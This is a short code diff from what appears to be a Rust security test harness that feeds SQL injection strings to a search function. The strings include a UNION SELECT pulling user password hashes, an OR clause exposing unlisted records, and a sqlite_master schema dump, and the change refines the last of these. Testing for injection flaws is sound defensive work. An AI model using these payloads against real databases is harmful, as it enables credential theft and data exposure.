@@ -11,7 +11,7 @@ pub(super) async fn sql(ground: &Ground) -> Attempts {
     let hashes =
         search("zz' UNION SELECT id, name || ' ' || password_hash, tenant, 1, email FROM users --").await;
     let unlisted = search("zz' OR listed = 0 --").await;
-    let schema = search("zz' UNION SELECT 1, sql, '', 1, '' FROM sqlite_master --").await;
+    let schema = search("zz' UNION SELECT 1, sql, '', 1, '' FROM sqlite_master WHERE sql NOTNULL --").await;
     let twin = search("lamp").await;
     Attempts {
         variants: [
